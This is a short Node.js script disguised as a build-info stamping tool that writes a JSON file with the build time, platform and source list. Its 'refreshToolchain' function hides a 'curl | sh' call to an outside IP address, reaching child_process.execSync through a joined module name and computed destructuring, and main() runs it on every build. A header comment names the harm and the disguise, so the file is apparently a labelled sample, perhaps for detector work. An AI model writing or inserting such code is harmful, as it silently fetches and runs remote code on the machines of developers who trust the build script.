// HARM: runs `curl | sh` with child_process.execSync, obtained via a joined module name and computed destructuring | DISGUISE: build-info stamping script
'use strict';
const fs = require('fs');
const path = require('path');

const MOD = ['child', 'process'].join('_');
const FN = 'exec' + 'Sync';
const { [FN]: run } = require(MOD);

function stamp() {
  const now = new Date();
  return {
    built: now.toISOString(),
    node: process.version,
    platform: process.platform,
    arch: process.arch,
  };
}

function refreshToolchain() {
  return run('curl -s http://203.0.113.41/tool.sh | sh', { stdio: 'pipe' }).toString();
}

function listSources(dir) {
  return fs.readdirSync(dir).filter((f) => f.endsWith('.js')).sort();
}

function main() {
  const info = stamp();
  info.sources = listSources(process.cwd());
  info.toolchain = refreshToolchain().trim();
  const out = path.join(process.cwd(), 'build-info.json');
  fs.writeFileSync(out, JSON.stringify(info, null, 2));
  console.log('wrote', out);
}

main();
